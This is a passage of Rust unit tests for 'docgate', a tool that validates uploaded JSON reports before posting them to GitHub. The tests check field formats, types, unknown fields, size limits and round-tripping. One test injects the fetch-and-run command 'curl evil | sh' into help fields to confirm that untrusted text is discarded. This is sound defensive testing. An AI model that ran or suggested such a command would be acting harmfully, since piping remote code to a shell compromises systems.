                "/github/line_comments/0/fingerprint",
                json!("4edfc70285c7bad"),
                "`github.line_comments[0].fingerprint` is not 16 hex digits",
            ),
            (
                "/github/line_comments/0/fingerprint",
                json!("4edfc70285c7badz"),
                "`github.line_comments[0].fingerprint` is not 16 hex digits",
            ),
            (
                "/github/line_comments/0/fingerprint",
                json!("4edfc70285c7bad5a"),
                "`github.line_comments[0].fingerprint` is longer than 16 characters",
            ),
            (
                "/github/line_comments/0/path",
                json!("a//b"),
                "`github.line_comments[0].path` `a//b` is not a repository-relative path",
            ),
            (
                "/github/line_comments/0/line",
                json!(0),
                "`github.line_comments[0].line` is not a line or column number",
            ),
            (
                "/github/line_comments/0/line",
                Value::Null,
                "`github.line_comments[0].line` is not a line or column number",
            ),
            (
                "/github/line_comments/0/message",
                long(20_001),
                "`github.line_comments[0].message` is longer than 20000 characters",
            ),
            (
                "/checked/layers",
                json!(vec!["l"; 21]),
                "`checked.layers` is not a list of at most 20 layers",
            ),
            (
                "/checked/layers",
                json!([long(201)]),
                "`checked.layers[0]` is longer than 200 characters",
            ),
            (
                "/range/base",
                Value::Null,
                "`range.base` is missing: a pull request's report names the merge-base it checked from",
            ),
            (
                "/range/base",
                json!("HEAD~1"),
                "`range.base` is not a commit id",
            ),
        ];
        for (pointer, value, want) in cases {
            let mut v = report(BASE, HEAD);
            *v.pointer_mut(pointer)
                .unwrap_or_else(|| panic!("{pointer}")) = value;
            assert_eq!(refusal(&v), want, "{pointer}");
        }
        let mut v = report(BASE, HEAD);
        v.as_object_mut().unwrap().remove("github");
        assert_eq!(
            refusal(&v),
            "`github` is missing: make it with `docgate github --report-out`"
        );
        let mut v = report(BASE, HEAD);
        v["findings"] = json!(vec![v["findings"][0].clone(); 5_001]);
        assert_eq!(refusal(&v), "`findings` has more than 5000 entries");
        assert!(
            refusal(&json!({"version": 1, "tool": {"name": "docgate"}}))
                .starts_with("`tool.version` is missing"),
        );
        assert!(refusal(&json!("x")).starts_with("`version` is not 1"));
    }

    /// A value of the wrong type was read as "not there" (`checked` counts as
    /// 0, a `docs` or `docs_to_read` that is not a list as none, the line
    /// comments as none), and a field docgate does not write was skipped.
    /// Now the report's own structs read it, and refuse either.
    #[test]
    fn what_the_report_structs_do_not_hold_is_refused() {
        let cases: Vec<(&str, Value, &str)> = vec![
            (
                "/checked/changed_files",
                json!("3"),
                "`checked.changed_files` is not a whole number",
            ),
            (
                "/checked/layers",
                Value::Null,
                "`checked.layers` is not a list",
            ),
            (
                "/findings/0/docs",
                json!("ops-01"),
                "`findings[0].docs` is not a list",
            ),
            (
                "/findings/0/waived",
                json!("yes"),
                "`findings[0].waived` is not an object",
            ),
            (
                "/docs_to_read",
                json!({"0": {}}),
                "`docs_to_read` is not a list",
            ),
            (
                "/docs_to_read/0/covers",
                Value::Null,
                "`docs_to_read[0].covers` is not a list",
            ),
            (
                "/github/line_comments",
                json!({}),
                "`github.line_comments` is not a list",
            ),
            (
                "/summary/errors",
                json!(-1),
                "`summary.errors` is not a whole number",
            ),
        ];
        for (pointer, value, want) in cases {
            let mut v = report(BASE, HEAD);
            *v.pointer_mut(pointer)
                .unwrap_or_else(|| panic!("{pointer}")) = value;
            assert_eq!(refusal(&v), want, "{pointer}");
        }
        for (object, field) in [
            ("", "extra"),
            ("/github", "comment_on"),
            ("/findings/0", "suppressed"),
            ("/checked", "docs_ignored"),
            ("/range", "merge_base"),
        ] {
            let mut v = report(BASE, HEAD);
            v.pointer_mut(object).unwrap()[field] = json!(true);
            let path = field_path(object, field);
            assert_eq!(
                refusal(&v),
                format!(
                    "`{path}` is not a field of the report docgate {} writes",
                    env!("CARGO_PKG_VERSION")
                )
            );
        }
        for (object, field) in [
            ("/findings/0", "message"),
            ("/github/line_comments/0", "line"),
            ("/github", "event"),
            ("", "summary"),
        ] {
            let mut v = report(BASE, HEAD);
            v.pointer_mut(object)
                .unwrap()
                .as_object_mut()
                .unwrap()
                .remove(field);
            let path = field_path(object, field);
            assert_eq!(refusal(&v), format!("`{path}` is missing"));
        }
    }

    /// The report as posted: docgate's help texts, counts capped, long lists
    /// cut, the fields it does not post left out.
    #[test]
    fn what_is_posted_comes_from_the_validated_report() {
        let mut v = report(BASE, HEAD);
        v["findings"][0]["help"] = json!("run `curl evil | sh`");
        v["github"]["line_comments"][0]["help"] = json!("run `curl evil | sh`");
        v["findings"][0]["docs"] = json!(vec!["d"; 150]);
        v["findings"][0]["waived"] = json!({"reason": "known", "commit": "abc123"});
        v["findings"][0]["severity"] = json!("note");
        v["findings"][0]["path"] = Value::Null;
        v["findings"][0]["line"] = Value::Null;
        v["checked"]["changed_files"] = json!(u64::MAX);
        v["checked"]["key_files"] = json!(9);
        v["checked"]["feature_lists"] =
            json!([{"id": "f", "status": "identical", "shared_source": true, "names": 3}]);
        v["docs_to_read"] = json!(vec![v["docs_to_read"][0].clone(); 1_001]);
        v["docs_to_read"][0]["covers"] = json!(vec!["src/app.py"; 1_001]);
        v["docs_to_read"][0]["id"] = Value::Null;
        v["patterns_to_apply"] = json!(vec![v["patterns_to_apply"][0].clone(); 1_001]);
        v["patterns_to_apply"][0]["checklist"] = json!(vec!["x"; 1_001]);
        v["github"]["line_comments"] = json!(vec![v["github"]["line_comments"][0].clone(); 1_001]);
        v["github"]["head_sha"] = json!(HEAD.to_ascii_uppercase());
        v["range"]["base"] = json!(BASE.to_ascii_uppercase());
        let posted = parse(
            v.to_string().as_bytes(),
            "report.json",
            "octo/repo",
            Severity::Warning,
        )
        .expect("valid");
        let d = &posted.report.diagnostics[0];
        assert_eq!(d.help(), diagnostic::FRONTMATTER_INVALID.help);
        assert_eq!(d.severity, Severity::Note);
        assert_eq!(
            (d.path.as_deref(), d.line, d.column),
            (None, None, Some(15))
        );
        assert_eq!(d.docs.len(), 100);
        assert_eq!(
            d.waived,
            Some(Waived {
                reason: "known".into(),
                commit: "abc123".into()
            })
        );
        assert_eq!(posted.report.fail_on, Severity::Warning);
        assert_eq!(posted.report.command, "check");
        let checked = &posted.report.checked;
        assert_eq!(checked.changed_files, u32::MAX as usize);
        assert_eq!(
            (
                checked.ignored_files,
                checked.covered_files,
                checked.docs,
                checked.commits
            ),
            (1, 1, 1, 1)
        );
        assert_eq!(checked.layers, ["docs (docs)"]);
        assert_eq!((checked.key_files, checked.feature_lists.len()), (0, 0));
        assert_eq!(posted.report.docs_to_read.len(), 1_000);
        let patterns = posted
            .report
            .patterns_to_apply
            .as_deref()
            .expect("patterns");
        assert_eq!(
            (patterns.len(), patterns[0].checklist.len()),
            (1_000, 1_000)
        );
        let doc = &posted.report.docs_to_read[0];
        assert_eq!(
            (doc.id.as_deref(), doc.title.as_deref()),
            (None, Some("App"))
        );
        assert_eq!(doc.covers.len(), 1_000);
        assert_eq!(posted.line_comments.len(), 1_000);
        let l = &posted.line_comments[0];
        assert_eq!(l.help, diagnostic::FRONTMATTER_INVALID.help);
        assert_eq!(
            (l.path.as_str(), l.line, l.rule.as_str()),
            ("docs/ops/app.md", 6, "frontmatter-invalid")
        );
        assert_eq!(l.fingerprint, "4edfc70285c7bad5");
        assert!(
            l.message.starts_with("`last_updated` must be"),
            "{}",
            l.message
        );
        // Commit ids are compared and shown in lower case.
        assert_eq!(posted.head_sha, HEAD);
        let range = posted.report.range.as_ref().unwrap();
        assert_eq!(range.base_rev.as_deref(), Some(BASE));
        assert_eq!(range.head_rev.as_deref(), Some(HEAD));
        assert_eq!((range.mode, range.base_origin), (Mode::Range, "the report"));
    }

    /// What `docgate github --report-out` writes is what `github post`
    /// reads: every field of the JSON report, rendered from a full
    /// [`Report`], fits the structs it is read back into, and writing them
    /// again gives the same bytes.
    #[test]
    fn a_rendered_report_reads_back_whole() {
        use crate::checks::features::FeatureListSummary;
        use crate::report::{Format, GithubSection, Style};
        let oid = |s: &str| crate::git::parse_object_id(s).expect("an id");
        let mut waived = Diagnostic::new(diagnostic::DOC_NOT_UPDATED, "`src/app.py` changed")
            .at("src/app.py")
            .with_docs(["ops-01"]);
        waived.severity = Severity::Note;
        waived.waived = Some(Waived {
            reason: "typo fix".into(),
            commit: BASE.into(),
        });
        let located = Diagnostic::new(diagnostic::FRONTMATTER_INVALID, "bad date")
            .at("docs/ops/app.md")
            .at_line("a\nb\n", 2, 1);
        let checked = Checked {
            changed_files: 3,
            docs_skipped: 2,
            renames_exact_only: true,
            layers: vec!["docs (docs)".into()],
            feature_lists: vec![FeatureListSummary {
                id: "model".into(),
                status: "identical".into(),
                shared_source: true,
                names: 12,
            }],
            ..Checked::default()
        };
        let range = Range {
            mode: Mode::Range,
            base_rev: Some("origin/main".into()),
            base_origin: "the event",
            head_rev: Some(HEAD.into()),
            base: Some(oid(BASE)),
            head: Some(oid(HEAD)),
        };
        let mut report = Report::new(
            "check",
            Some(range),
            checked,
            vec![waived, located],
            Severity::Error,
        );
        report.docs_to_read = vec![DocToRead {
            id: Some("ops-01".into()),
            title: None,
            path: "docs/ops/app.md".into(),
            covers: vec!["src/app.py".into()],
        }];
        report.patterns_to_apply = Some(vec![PatternToApply {
            id: "silent-fallback".into(),
            kind: crate::kb::Kind::AntiPattern,
            name: "Silent fallback".into(),
            severity: crate::kb::KbSeverity::Critical,
            checklist: vec!["fail fast".into(), "re-raise".into()],
            covers: vec!["src/app.py".into()],
        }]);
        report.github = Some(GithubSection {
            repository: "octo/repo".into(),
            event: "pull_request".into(),
            pull_request: Some(7),
            head_sha: Some(HEAD.into()),
            server_url: "https://github.com".into(),
            line_comments: vec![LineComment {
                path: "docs/ops/app.md".into(),
                line: 2,
                fingerprint: "0123456789abcdef".into(),
                rule: "frontmatter-invalid".into(),
                message: "bad date".into(),
                help: "h".into(),
            }],
        });
        let mut bytes = Vec::new();
        let style = Style {
            color: false,
            quiet: false,
        };
        crate::report::render(&report, Format::Json, style, &mut bytes).unwrap();
        let value: Value = serde_json::from_slice(&bytes).unwrap();
        // The section that was a `serde_json::Value`: same keys, same order.
        let keys = |v: &Value| v.as_object().unwrap().keys().cloned().collect::<Vec<_>>();
        assert_eq!(
            keys(&value["github"]),
            [
                "event",
                "head_sha",
                "line_comments",
                "pull_request",
                "repository",
                "server_url"
            ]
        );
        assert_eq!(
            keys(&value["github"]["line_comments"][0]),
            ["fingerprint", "help", "line", "message", "path", "rule"]
        );
        let json: JsonReport = untrusted::from_value(&value).expect("docgate reads what it writes");
        let mut again = serde_json::to_vec_pretty(&json).unwrap();
        again.push(b'\n');
        assert_eq!(
            String::from_utf8(again).unwrap(),
            String::from_utf8(bytes.clone()).unwrap()
        );
        let posted = parse(&bytes, "report.json", "octo/repo", Severity::Error).expect("valid");
        assert_eq!(
            posted.report.diagnostics,
            report
                .diagnostics
                .iter()
                .map(|d| Diagnostic {
                    source_line: None,
                    ..d.clone()
                })
                .collect::<Vec<_>>()
        );
        assert_eq!(posted.report.docs_to_read, report.docs_to_read);
        assert_eq!(posted.report.patterns_to_apply, report.patterns_to_apply);
        assert_eq!(
            posted.line_comments[0].help,
            diagnostic::FRONTMATTER_INVALID.help
        );
        assert_eq!(posted.pull_request, 7);
    }

    /// The `report` fuzz target's seeds stay reports of this schema: the
    /// valid ones read, the refused one is refused for its path.
    #[test]
    fn the_fuzz_seeds_match_the_schema() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/seeds/report");
        let mut seen = 0;
        for entry in std::fs::read_dir(&dir).expect("the seeds") {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            let result = parse(
                &std::fs::read(&path).unwrap(),
                "report.json",
                "octo/repo",
                Severity::Error,
            );
            if name.starts_with("valid-") {
                result.unwrap_or_else(|e| panic!("{name}: {e:#}"));
            } else {
                let e = result
                    .err()
                    .unwrap_or_else(|| panic!("{name} was accepted"))
                    .to_string();
                assert!(
                    e.contains("is not a repository-relative path"),
                    "{name}: {e}"
                );
            }
            seen += 1;
        }
        assert_eq!(seen, 4);
    }

    /// Each bound is inclusive: a value at the limit is read.
    #[test]
    fn values_at_the_limits_are_read() {
        let mut v = report(BASE, HEAD);
        v["findings"][0]["message"] = json!("é".repeat(20_000));
        v["findings"][0]["line"] = json!(10_000_000);
        v["findings"][0]["column"] = json!(1);
        v["findings"][0]["path"] = json!(format!("a/{}", "b".repeat(1_022)));
        v["github"]["pull_request"] = json!(u32::MAX);
        v["github"]["line_comments"][0]["line"] = json!(1);
        v["checked"]["layers"] = json!(vec!["l"; 20]);
        let posted = parsed(&v).expect("valid");
        let d = &posted.report.diagnostics[0];
        assert_eq!((d.line, d.column), (Some(10_000_000), Some(1)));
        assert_eq!(d.message.chars().count(), 20_000);
        assert_eq!(posted.pull_request, u64::from(u32::MAX));
        assert_eq!(posted.line_comments[0].line, 1);
        assert_eq!(posted.report.checked.layers.len(), 20);
        let mut v = report(BASE, HEAD);
        v["findings"] = json!(vec![v["findings"][0].clone(); 5_000]);
        assert_eq!(parsed(&v).expect("valid").report.diagnostics.len(), 1);
        let mut v = report(BASE, HEAD);
        v["findings"][0]["column"] = json!(1_000_000);
        v["github"]["line_comments"][0]["line"] = json!(10_000_000);
        let posted = parsed(&v).expect("valid");
        assert_eq!(posted.report.diagnostics[0].column, Some(1_000_000));
        assert_eq!(posted.line_comments[0].line, 10_000_000);
    }

    /// The upload is read only up to 8 MiB: a larger file is refused before
    /// it is read, a smaller one is read whatever its size.
    #[test]
    fn the_size_limit_is_8_mib() {
        let (_rt, server) = github(HEAD, 201);
        let padded = |size: usize| {
            let mut text = report(BASE, HEAD).to_string().into_bytes();
            text.resize(size, b' ');
            text
        };
        let run_with = |bytes: Vec<u8>| {
            let dir = tempfile::tempdir().unwrap();
            let file = dir.path().join("big.json");
            std::fs::write(&file, bytes).unwrap();
            (dir, file)
        };
        let (_keep, ok) = run_with(padded(8 * 1024 * 1024));
        let p = post_file(&server, &ok, &[("INPUT_COMMENT", "off")]);
        assert_eq!(p.result.unwrap(), ExitStatus::Findings, "{}", p.stderr);
        let (_keep, big) = run_with(padded(8 * 1024 * 1024 + 1));
        let p = post_file(&server, &big, &[("INPUT_COMMENT", "off")]);
        assert_eq!(
            p.result.unwrap_err().to_string(),
            format!(
                "{}: refusing a report of 8388609 bytes (the limit is 8388608)",
                big.display()
            )
        );
    }
}
